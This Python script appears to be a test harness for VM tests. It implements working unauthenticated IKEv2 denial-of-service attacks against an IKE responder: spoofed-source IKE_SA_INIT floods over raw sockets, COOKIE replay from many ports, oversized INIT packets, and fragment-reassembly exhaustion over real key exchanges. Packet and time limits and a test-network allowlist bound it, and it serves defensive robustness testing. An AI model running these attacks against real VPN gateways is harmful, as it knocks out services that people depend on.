#!/usr/bin/env python3
"""Unauthenticated IKEv2 attacks on an IKE responder, for the VM tests (tests/vm/cases/attack-*).

Every mode is bounded in packets and in seconds, and only sends to test addresses (RFC 5737
documentation networks, 10/8, RFC 2544's 198.18/15 and their IPv6 equivalents). The result is
one JSON object on stdout (packets sent, answers by kind, elapsed seconds).

Modes:
  spoof-init     N IKE_SA_INIT with random SPIs, nonces and x25519 KE values, from spoofed
                 source addresses of --prefix (raw socket, IP_HDRINCL; needs CAP_NET_RAW), or
                 with --no-spoof from many source ports of the host's own address.
  cookie-replay  one IKE_SA_INIT, then the same request with the COOKIE the responder demanded,
                 from --ports different source ports (one socket each); counts the answers.
  big-init       IKE_SA_INIT padded with a Vendor ID payload to --size octets.
  frag-hold      --sas IKE SAs completed for real (x25519, aes256gcm16-prfsha256, fragmentation
                 announced unless --no-frag-notify), then on each SA fragments 1..N-1 of N of an
                 IKE_AUTH that never completes (SKF, RFC 7383). Needs python3-cryptography.
  selftest       checks the key derivation and SK protection against strongSwan's recorded
                 exchanges (--vectors: the folder with psk-chacha-x25519.json and
                 psk-gcm-ecp256.json/.pcap).

The IKE_SA_INIT layout follows RFC 7296 sections 3.1-3.10: header, SA (one IKE proposal),
KE, Nonce, NAT detection notifies.
"""

import argparse
import hashlib
import hmac
import ipaddress
import json
import os
import random
import select
import socket
import struct
import sys
import time

IKE_SA_INIT = 34
FLAG_INITIATOR = 0x08
# Payload types (RFC 7296 section 3.2).
PL_NONE, PL_SA, PL_KE, PL_NONCE, PL_NOTIFY, PL_VENDOR = 0, 33, 34, 40, 41, 43
# Transform types and IDs (IANA IKEv2 registry).
T_ENCR, T_PRF, T_INTEG, T_DH = 1, 2, 3, 4
ENCR_AES_CBC, ENCR_AES_GCM_16 = 12, 20
PRF_HMAC_SHA1, PRF_HMAC_SHA2_256 = 2, 5
AUTH_HMAC_SHA1_96 = 2
DH_CURVE25519 = 31
ATTR_KEY_LENGTH = 0x800E  # AF=1 (TV), type 14
# Notify types.
N_COOKIE = 16390
N_NAT_SRC, N_NAT_DST = 16388, 16389
N_FRAG_SUPPORTED = 16430
N_NO_PROPOSAL_CHOSEN = 14
N_INVALID_KE = 17

MAX_COUNT = 1_000_000
MAX_SECONDS = 300
ALLOWED = [ipaddress.ip_network(n) for n in (
    "192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "198.18.0.0/15", "10.0.0.0/8",
    "2001:db8::/32", "fd00::/8")]


def allowed(addr):
    a = ipaddress.ip_address(addr)
    return any(a in n for n in ALLOWED)


def transform(ttype, tid, keylen=None, last=False):
    attrs = struct.pack("!HH", ATTR_KEY_LENGTH, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_proposal(matching):
    """aes256gcm16-prfsha256-x25519 (what the test responders accept) or, when not matching,
    aes128-sha1-x25519, which they do not."""
    if matching:
        ts = [transform(T_ENCR, ENCR_AES_GCM_16, 256), transform(T_PRF, PRF_HMAC_SHA2_256),
              transform(T_DH, DH_CURVE25519, last=True)]
    else:
        ts = [transform(T_ENCR, ENCR_AES_CBC, 128), transform(T_PRF, PRF_HMAC_SHA1),
              transform(T_INTEG, AUTH_HMAC_SHA1_96), transform(T_DH, DH_CURVE25519, last=True)]
    body = b"".join(ts)
    # Last proposal (0), number 1, protocol IKE (1), SPI size 0.
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, len(ts)) + body


def notify(ntype, data=b""):
    # Protocol ID 0 and SPI size 0 (RFC 7296 section 3.10) for IKE SA notifies.
    return struct.pack("!BBH", 0, 0, ntype) + data


def natd_hash(spi_i, spi_r, addr):
    """RFC 7296 section 2.23: SHA-1(SPIi | SPIr | IP | port)."""
    ip, port = addr
    return hashlib.sha1(struct.pack("!QQ", spi_i, spi_r) + ipaddress.ip_address(ip).packed
                        + struct.pack("!H", port)).digest()


def ike_sa_init(spi_i, nonce, ke, matching=True, cookie=None, vendor=None, frag=False,
                natd=None):
    """One IKE_SA_INIT request. Payloads as (type, body); COOKIE first (section 2.6).
    natd: (our address, the responder's address) for genuine NAT detection hashes."""
    pls = []
    if cookie is not None:
        pls.append((PL_NOTIFY, notify(N_COOKIE, cookie)))
    pls.append((PL_SA, ike_proposal(matching)))
    pls.append((PL_KE, struct.pack("!HH", DH_CURVE25519, 0) + ke))
    pls.append((PL_NONCE, nonce))
    if natd is None:
        # NAT detection hashes of nonsense: the responder only concludes "NAT", which is harmless.
        src_hash, dst_hash = os.urandom(20), os.urandom(20)
    else:
        src_hash, dst_hash = natd_hash(spi_i, 0, natd[0]), natd_hash(spi_i, 0, natd[1])
    pls.append((PL_NOTIFY, notify(N_NAT_SRC, src_hash)))
    pls.append((PL_NOTIFY, notify(N_NAT_DST, dst_hash)))
    if frag:
        pls.append((PL_NOTIFY, notify(N_FRAG_SUPPORTED)))
    if vendor is not None:
        pls.append((PL_VENDOR, vendor))
    body = b""
    for i, (_, data) in enumerate(pls):
        nxt = pls[i + 1][0] if i + 1 < len(pls) else PL_NONE
        body += struct.pack("!BBH", nxt, 0, 4 + len(data)) + data
    hdr = struct.pack("!QQBBBBII", spi_i, 0, pls[0][0], 0x20, IKE_SA_INIT, FLAG_INITIATOR, 0,
                      28 + len(body))
    return hdr + body


def parse_answer(b):
    """The kind of an IKE_SA_INIT answer: 'created' (SPIr set, SA payload), 'cookie' (with the
    cookie), 'notify:<type>', or 'other'."""
    if len(b) < 28:
        return ("other", None)
    _, spi_r, nxt, _, exch, _, _, length = struct.unpack("!QQBBBBII", b[:28])
    off = 28
    notifies = []
    has_sa = False
    while nxt != PL_NONE and off + 4 <= len(b):
        cur = nxt
        nxt, _, plen = struct.unpack("!BBH", b[off:off + 4])
        if plen < 4:
            break
        data = b[off + 4:off + plen]
        if cur == PL_NOTIFY and len(data) >= 4:
            spi_size = data[1]
            ntype = struct.unpack("!H", data[2:4])[0]
            notifies.append((ntype, data[4 + spi_size:]))
        if cur == PL_SA:
            has_sa = True
        off += plen
    for ntype, data in notifies:
        if ntype == N_COOKIE:
            return ("cookie", data)
    if spi_r != 0 and has_sa:
        return ("created", None)
    for ntype, _ in notifies:
        if ntype < 16384:
            return (f"notify:{ntype}", None)
    return ("other", None)


class Bounds:
    def __init__(self, count, seconds):
        if count > MAX_COUNT or seconds > MAX_SECONDS:
            sys.exit(f"ikeattack: at most {MAX_COUNT} packets and {MAX_SECONDS} s")
        self.count, self.seconds = count, seconds
        self.start = time.monotonic()

    def elapsed(self):
        return time.monotonic() - self.start

    def over(self):
        return self.elapsed() >= self.seconds


def collect(socks, answers, wait):
    """Reads every answer that arrives on socks within `wait` seconds into the answers dict."""
    deadline = time.monotonic() + wait
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return
        ready, _, _ = select.select(socks, [], [], left)
        if not ready:
            return
        for s in ready:
            try:
                b = s.recv(65535)
            except OSError:
                continue
            kind, _ = parse_answer(b)
            answers[kind] = answers.get(kind, 0) + 1


def spoof_init(a):
    b = Bounds(a.count, a.seconds)
    target = a.target
    match_every = {"yes": 1, "no": 0, "mix": 2}[a.match]
    sent, answers = 0, {}
    if a.no_spoof:
        socks = []
        for _ in range(min(a.sockets, a.count)):
            s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET,
                              socket.SOCK_DGRAM)
            s.bind((a.bind or "", 0))
            s.setblocking(False)
            socks.append(s)
        while sent < a.count and not b.over():
            matching = match_every == 1 or (match_every == 2 and sent % 2 == 0)
            msg = ike_sa_init(random.getrandbits(64) or 1, os.urandom(32), os.urandom(32),
                              matching)
            try:
                socks[sent % len(socks)].sendto(msg, (target, a.port))
            except BlockingIOError:
                collect(socks, answers, 0.01)
                continue
            sent += 1
            if sent % 256 == 0:
                collect(socks, answers, 0)
        collect(socks, answers, 1.0)
        return {"sent": sent, "answers": answers, "elapsed": round(b.elapsed(), 2)}
    net = ipaddress.ip_network(a.prefix)
    if not allowed(net.network_address) or not allowed(net.broadcast_address):
        sys.exit(f"ikeattack: spoofed prefix {net} is not a test network")
    if net.version != 4 or ":" in target:
        sys.exit("ikeattack: spoofing is implemented for IPv4 only (use --no-spoof)")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    dst = socket.inet_aton(target)
    base, size = int(net.network_address), net.num_addresses
    templates = [ike_sa_init(1, bytes(32), bytes(32), m) for m in (True, False)]
    # Offsets of the fields that change per packet inside the IKE message: header 28 + SA (4 + proposal) + KE header 4 + group/reserved 4; then 32 octets of KE, then
    # the Nonce payload header (4) and 32 octets of nonce.
    offs = []
    for m in (True, False):
        sa_len = 4 + len(ike_proposal(m))
        ke_off = 28 + sa_len + 8
        offs.append((ke_off, ke_off + 32 + 4))
    while sent < a.count and not b.over():
        m = 0 if match_every == 1 or (match_every == 2 and sent % 2 == 0) else 1
        ike = bytearray(templates[m])
        rnd = os.urandom(8 + 32 + 32 + 6)
        ike[0:8] = rnd[0:8]
        ke_off, n_off = offs[m]
        ike[ke_off:ke_off + 32] = rnd[8:40]
        ike[n_off:n_off + 32] = rnd[40:72]
        src = struct.pack("!I", base + int.from_bytes(rnd[72:76], "big") % size)
        sport = 1024 + int.from_bytes(rnd[76:78], "big") % 64000
        udp = struct.pack("!HHHH", sport, a.port, 8 + len(ike), 0)
        # The kernel fills in the IP checksum, the ID (when 0) and the total length.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(ike), 0, 0, 64, 17, 0,
                         src, dst)
        try:
            raw.sendto(ip + udp + bytes(ike), (target, 0))
        except (BlockingIOError, PermissionError, OSError) as e:
            if isinstance(e, PermissionError):
                raise
            time.sleep(0.001)
            continue
        sent += 1
        if a.rate and sent % 100 == 0:
            ahead = sent / a.rate - b.elapsed()
            if ahead > 0:
                time.sleep(ahead)
    return {"sent": sent, "elapsed": round(b.elapsed(), 2)}


def cookie_replay(a):
    b = Bounds(a.ports, a.seconds)
    fam = socket.AF_INET6 if ":" in a.target else socket.AF_INET
    first = socket.socket(fam, socket.SOCK_DGRAM)
    first.bind((a.bind or "", 0))
    spi, nonce, ke = random.getrandbits(64) or 1, os.urandom(32), os.urandom(32)
    first.sendto(ike_sa_init(spi, nonce, ke), (a.target, a.port))
    first.settimeout(5)
    try:
        kind, cookie = parse_answer(first.recv(65535))
    except socket.timeout:
        sys.exit("ikeattack: no answer to the first IKE_SA_INIT")
    first.close()
    if kind != "cookie":
        sys.exit(f"ikeattack: the responder answered '{kind}', not a COOKIE (cookie_threshold?)")
    msg = ike_sa_init(spi, nonce, ke, cookie=cookie)
    sent, answers, batch = 0, {}, []
    while sent < a.ports and not b.over():
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((a.bind or "", 0))
        s.setblocking(False)
        s.sendto(msg, (a.target, a.port))
        sent += 1
        batch.append(s)
        # Bounded file descriptors: read a batch's answers, then close it.
        if len(batch) >= 200:
            # A responder under emulation answers a batch in about a second.
            collect(batch, answers, 1.0)
            for s in batch:
                s.close()
            batch = []
    collect(batch, answers, 2.0)
    return {"sent": sent, "cookie_octets": len(cookie), "answers": answers,
            "elapsed": round(b.elapsed(), 2)}


def big_init(a):
    b = Bounds(a.count, a.seconds)
    fam = socket.AF_INET6 if ":" in a.target else socket.AF_INET
    socks = []
    sent, answers = 0, {}
    small = len(ike_sa_init(1, bytes(32), bytes(32), vendor=b""))
    vendor_len = a.size - small
    if vendor_len < 0 or a.size > 65000:
        sys.exit(f"ikeattack: size must be between {small} and 65000")
    while sent < a.count and not b.over():
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((a.bind or "", 0))
        s.setblocking(False)
        msg = ike_sa_init(random.getrandbits(64) or 1, os.urandom(32), os.urandom(32),
                          vendor=os.urandom(vendor_len))
        s.sendto(msg, (a.target, a.port))
        sent += 1
        socks.append(s)
        if len(socks) >= 200:
            collect(socks, answers, 0.2)
            for s in socks:
                s.close()
            socks = []
    collect(socks, answers, 1.0)
    return {"sent": sent, "size": a.size, "answers": answers, "elapsed": round(b.elapsed(), 2)}


# ------------------------------------------------------------------------------ frag-hold
PL_IDI, PL_SKF = 35, 53
IKE_AUTH = 35


def payloads(b):
    """(SPIr, [(type, body)]) of an IKE message's cleartext payload chain."""
    _, spi_r, nxt, _, _, _, _, _ = struct.unpack("!QQBBBBII", b[:28])
    out, off = [], 28
    while nxt != PL_NONE and off + 4 <= len(b):
        cur = nxt
        nxt, _, plen = struct.unpack("!BBH", b[off:off + 4])
        if plen < 4:
            break
        out.append((cur, b[off + 4:off + plen]))
        off += plen
    return spi_r, out


def prf(key, data):
    return hmac.new(key, data, hashlib.sha256).digest()


def prf_plus(key, seed, n):
    """RFC 7296 section 2.13: T1 | T2 | ..., Tn = prf(K, Tn-1 | S | n)."""
    out, t, i = b"", b"", 1
    while len(out) < n:
        t = prf(key, t + seed + bytes([i]))
        out += t
        i += 1
    return out[:n]


def derive(ni, nr, g_ir, spi_i, spi_r):
    """RFC 7296 section 2.14 for PRF_HMAC_SHA2_256 with a 256-bit AEAD (AES-GCM-16-256 or
    ChaCha20-Poly1305): no SK_a; SK_e is 32 key octets plus a 4-octet salt (RFC 5282 / 7634)."""
    skeyseed = prf(ni + nr, g_ir)
    km = prf_plus(skeyseed, ni + nr + struct.pack("!QQ", spi_i, spi_r), 32 + 36 + 36 + 32 + 32)
    return {"skeyseed": skeyseed, "sk_d": km[0:32], "sk_ei": km[32:68], "sk_er": km[68:104],
            "sk_pi": km[104:136], "sk_pr": km[136:168]}


def aead_seal(sk_e, aad, plaintext):
    """RFC 5282: 8-octet explicit IV, nonce = salt | IV, 16-octet ICV; padding length 0."""
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    iv = os.urandom(8)
    return iv + AESGCM(sk_e[:32]).encrypt(sk_e[32:] + iv, plaintext + b"\0", aad)


def aead_open(sk_e, aad, body):
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    pt = AESGCM(sk_e[:32]).decrypt(sk_e[32:] + body[:8], body[8:], aad)
    return pt[:len(pt) - pt[-1] - 1]


def skf_message(spi_i, spi_r, msg_id, number, total, first_inner, inner, sk_ei):
    """One Encrypted Fragment (RFC 7383 section 2.5): the associated data is the IKE header and
    the SKF payload header with Fragment Number and Total Fragments."""
    body_len = 8 + len(inner) + 1 + 16
    plen = 8 + body_len
    hdr = struct.pack("!QQBBBBII", spi_i, spi_r, PL_SKF, 0x20, IKE_AUTH, FLAG_INITIATOR, msg_id,
                      28 + plen)
    skf = struct.pack("!BBHHH", first_inner if number == 1 else PL_NONE, 0, plen, number, total)
    return hdr + skf + aead_seal(sk_ei, hdr + skf, inner)


def init_for_real(sock, target, frag):
    """IKE_SA_INIT with x25519 to the end (answering a COOKIE demand once); returns
    (spi_i, spi_r, keys) or raises RuntimeError with the responder's answer."""
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
    from cryptography.hazmat.primitives import serialization
    priv = X25519PrivateKey.generate()
    pub = priv.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    spi_i, ni = random.getrandbits(64) or 1, os.urandom(32)
    natd = (sock.getsockname()[:2], target)
    cookie = None
    for _ in range(2):
        sock.sendto(ike_sa_init(spi_i, ni, pub, cookie=cookie, frag=frag, natd=natd), target)
        b = sock.recv(65535)
        kind, data = parse_answer(b)
        if kind == "cookie" and cookie is None:
            cookie = data
            continue
        if kind != "created":
            raise RuntimeError(f"IKE_SA_INIT answered with {kind}")
        spi_r, pls = payloads(b)
        ke = next(d for t, d in pls if t == PL_KE)
        nr = next(d for t, d in pls if t == PL_NONCE)
        g_ir = priv.exchange(X25519PublicKey.from_public_bytes(ke[4:]))
        resp_frag = any(t == PL_NOTIFY and struct.unpack("!H", d[2:4])[0] == N_FRAG_SUPPORTED
                        for t, d in pls)
        return spi_i, spi_r, derive(ni, nr, g_ir, spi_i, spi_r), resp_frag
    raise RuntimeError("COOKIE demanded twice")


def frag_hold(a):
    b = Bounds(a.sas * a.total, a.seconds)
    if not 2 <= a.total <= 255 or a.sas > 100:
        sys.exit("ikeattack: --total between 2 and 255, --sas at most 100")
    fam = socket.AF_INET6 if ":" in a.target else socket.AF_INET
    target = (a.target, a.port)
    sas, refused = [], {}
    for _ in range(a.sas):
        if b.over():
            break
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.bind((a.bind or "", 0))
        s.settimeout(5)
        try:
            spi_i, spi_r, keys, resp_frag = init_for_real(s, target, not a.no_frag_notify)
        except (RuntimeError, socket.timeout, StopIteration) as e:
            refused[str(e)] = refused.get(str(e), 0) + 1
            s.close()
            continue
        sas.append((s, spi_i, spi_r, keys, resp_frag))
    sent = 0
    # Fragment by fragment across all SAs, so that every SA holds its share at the same time.
    for n in range(1, a.total):
        for s, spi_i, spi_r, keys, _ in sas:
            if b.over():
                break
            s.sendto(skf_message(spi_i, spi_r, 1, n, a.total, PL_IDI, os.urandom(a.frag_size),
                                 keys["sk_ei"]), target)
            sent += 1
    answers = {}
    collect([s for s, *_ in sas], answers, 1.0)
    out = {"sas": len(sas), "refused": refused, "fragments_sent": sent,
           "responder_fragmentation": sum(1 for *_, f in sas if f), "answers": answers,
           "elapsed": round(b.elapsed(), 2)}
    if a.hold > 0:
        # Keep the sockets (and so the source ports) while the caller measures.
        time.sleep(min(a.hold, MAX_SECONDS))
    return out


def read_pcap_ike(path):
    """IKE messages (non-ESP marker removed) of an Ethernet/IPv4 pcap, in order."""
    data = open(path, "rb").read()
    end = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    off, out = 24, []
    while off + 16 <= len(data):
        incl = struct.unpack(end + "I", data[off + 8:off + 12])[0]
        pkt = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if pkt[12:14] != b"\x08\x00" or pkt[23] != 17:
            continue
        ip = pkt[14:]
        udp = ip[(ip[0] & 15) * 4:]
        sport, dport, ulen = struct.unpack("!HHH", udp[:6])
        pl = udp[8:ulen]
        if 4500 in (sport, dport):
            if pl[:4] != b"\0\0\0\0":
                continue
            pl = pl[4:]
        elif 500 not in (sport, dport):
            continue
        out.append(pl)
    return out


def selftest(a):
    """Our derivation and SK layout against bytes and keys strongSwan 5.9.8 produced."""
    d = a.vectors
    j = json.load(open(os.path.join(d, "psk-chacha-x25519.json")))
    sa = j["ike_sas"][0]
    h = bytes.fromhex
    keys = derive(h(sa["nonce_i"]), h(sa["nonce_r"]), h(sa["g_ir"]), int(sa["spi_i"], 16),
                  int(sa["spi_r"], 16))
    checks = {k: keys[k].hex() == sa[k] for k in ("skeyseed", "sk_d", "sk_ei", "sk_er", "sk_pi",
                                                  "sk_pr")}
    # The IKE_AUTH request of the AES-GCM case, decrypted with the recorded SK_ei and our AAD
    # (IKE header and SK payload header) and nonce (salt | explicit IV) layout.
    j = json.load(open(os.path.join(d, "psk-gcm-ecp256.json")))
    sa = j["ike_sas"][0]
    keys = derive(h(sa["nonce_i"]), h(sa["nonce_r"]), h(sa["g_ir"]), int(sa["spi_i"], 16),
                  int(sa["spi_r"], 16))
    checks["gcm_keys"] = keys["sk_ei"].hex() == sa["sk_ei"]
    auth = [m for m in read_pcap_ike(os.path.join(d, "psk-gcm-ecp256.pcap"))
            if m[18] == IKE_AUTH and m[19] & FLAG_INITIATOR][0]
    plen = struct.unpack("!H", auth[30:32])[0]
    inner = aead_open(keys["sk_ei"], auth[:32], auth[32:28 + plen])
    checks["gcm_sk_decrypt"] = inner[4:8] == b"\x02\0\0\0" and b"west.example" in inner
    # Our SKF decrypts with the same rules (associated data up to Total Fragments).
    m = skf_message(1, 2, 1, 1, 64, PL_IDI, b"x" * 100, keys["sk_ei"])
    checks["skf_roundtrip"] = aead_open(keys["sk_ei"], m[:36], m[36:]) == b"x" * 100
    ok = all(checks.values())
    if not ok:
        print(json.dumps(checks), file=sys.stderr)
        sys.exit(1)
    return {"checks": checks}


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["spoof-init", "cookie-replay", "big-init", "frag-hold",
                                    "selftest"])
    p.add_argument("--target", default="192.0.2.2", help="responder address")
    p.add_argument("--port", type=int, default=500)
    p.add_argument("--bind", help="local address for unspoofed modes")
    p.add_argument("--count", type=int, default=1000, help="packets to send (at most)")
    p.add_argument("--seconds", type=float, default=60, help="stop after this long")
    p.add_argument("--prefix", default="198.18.0.0/16", help="spoofed source prefix")
    p.add_argument("--match", choices=["yes", "no", "mix"], default="mix",
                   help="proposals the responder accepts, does not, or every other packet")
    p.add_argument("--no-spoof", action="store_true", help="use many source ports instead")
    p.add_argument("--sockets", type=int, default=256, help="source ports for --no-spoof")
    p.add_argument("--rate", type=float, default=0, help="packets per second (0: as fast as possible)")
    p.add_argument("--ports", type=int, default=3000, help="cookie-replay: source ports")
    p.add_argument("--size", type=int, default=60000, help="big-init: message size in octets")
    p.add_argument("--sas", type=int, default=10, help="frag-hold: IKE SAs")
    p.add_argument("--total", type=int, default=64, help="frag-hold: Total Fragments (1..N-1 sent)")
    p.add_argument("--frag-size", type=int, default=1000, help="frag-hold: octets per fragment")
    p.add_argument("--no-frag-notify", action="store_true",
                   help="frag-hold: do not announce IKEV2_FRAGMENTATION_SUPPORTED")
    p.add_argument("--hold", type=float, default=0, help="frag-hold: keep the SAs' ports this long")
    p.add_argument("--vectors", default="/work/shared/testdata/strongswan-5.9.8",
                   help="selftest: strongSwan test data folder")
    a = p.parse_args()
    if not allowed(a.target):
        sys.exit(f"ikeattack: {a.target} is not a test address")
    mode = {"spoof-init": spoof_init, "cookie-replay": cookie_replay, "big-init": big_init,
            "frag-hold": frag_hold, "selftest": selftest}
    out = mode[a.mode](a)
    out["mode"] = a.mode
    print(json.dumps(out, sort_keys=True))


if __name__ == "__main__":
    main()
